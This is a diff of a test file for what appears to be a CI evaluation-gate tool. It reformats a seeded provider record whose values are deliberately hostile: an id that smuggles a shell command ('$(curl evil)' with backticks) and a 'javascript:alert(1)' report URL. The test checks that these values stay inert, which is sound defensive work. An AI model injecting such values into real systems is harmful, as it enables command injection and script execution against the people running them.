@@ -46,7 +46,12 @@ describe('redactor', () => {
 describe('run() outputs from hostile provider values', () => {
   it('an id outside the safe charset or a non-https URL leaves the output empty with a warning; the check shows them inert', async () => {
     const h = harness('nugen');
-    const hostile = h.client.seed({ id: 'ev-$(curl evil)`x`', status: 'completed', reportUrl: 'javascript:alert(1)', scores: { avg: 0.9, min: 0.5, max: 1, count: 3 } });
+    const hostile = h.client.seed({
+      id: 'ev-$(curl evil)`x`',
+      status: 'completed',
+      reportUrl: 'javascript:alert(1)',
+      scores: { avg: 0.9, min: 0.5, max: 1, count: 3 },
+    });
     await h.github.createCheck({ name: 'evalgate', headSha: PR_CONTEXT.sha, externalId: hostile.id, startedAt: '', output: { title: '', summary: '' } });
     const outcome = await run(h.deps);
     expect(outcome.gate).toBe('pass');
